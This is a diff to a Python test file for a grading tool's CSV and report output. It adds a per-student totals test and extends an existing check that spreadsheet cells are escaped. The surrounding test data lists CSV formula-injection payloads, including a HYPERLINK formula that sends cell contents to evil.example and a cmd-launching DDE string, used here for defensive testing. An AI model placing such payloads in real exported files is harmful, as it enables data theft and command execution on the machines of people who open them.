@@ -1,4 +1,4 @@
-"""grades.csv, report.md and diagnoses.png from a handful of rows."""
+"""grades.csv, students.csv, report.md and diagnoses.png from a handful of rows."""
 
 from __future__ import annotations
 
@@ -53,6 +53,19 @@ def test_outputs_round_trip(tmp_path):
     assert (tmp_path / "diagnoses.png").stat().st_size > 5000
 
 
+def test_students_csv_holds_one_total_per_student(tmp_path):
+    write_outputs(tmp_path, rows(), {"assignment": A, "supported": {}})
+    with open(tmp_path / "students.csv", newline="") as f:
+        table = list(csv.DictReader(f))
+    assert [r["student"] for r in table] == [f"s{i:02d}" for i in range(40)]
+    by = {r["student"]: r for r in table}
+    # s00: batch-reduction and broadcast-axis; s13: timeout, reduce_to_shape passed; s15: both passed
+    assert by["s00"] == {"student": "s00", "assignment": A, "score": "0", "max_score": "5", "cells_passed": "0", "cells": "2"}
+    assert (by["s13"]["score"], by["s13"]["cells_passed"]) == ("2", "1")
+    assert (by["s15"]["score"], by["s15"]["max_score"], by["s15"]["cells_passed"]) == ("5", "5", "2")
+    assert sum(float(r["score"]) for r in table) == sum(r.score for r in rows())
+
+
 # What a submission can put in a row: its folder name (the student id) and, before issue 13, its exception text.
 HOSTILE_TEXT = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
@@ -71,6 +84,9 @@ def test_every_csv_cell_is_text_to_a_spreadsheet_and_reads_back_exactly(tmp_path
         cells = [c for row in list(csv.reader(f))[1:] for c in row]
     formula = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?[\d.]+(e\d+)?", c)]
     assert not formula, formula
+    with open(tmp_path / "students.csv", newline="") as f:
+        totals = [c for row in list(csv.reader(f))[1:] for c in row]
+    assert not [c for c in totals if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?[\d.]+(e\d+)?", c)], totals
     assert "-1.5" in cells and "-1" in cells and "+2.5" in cells, "numbers are left alone"
     assert read_csv(tmp_path / "grades.csv") == sorted(written, key=lambda r: (r.student, r.grade_id))
 
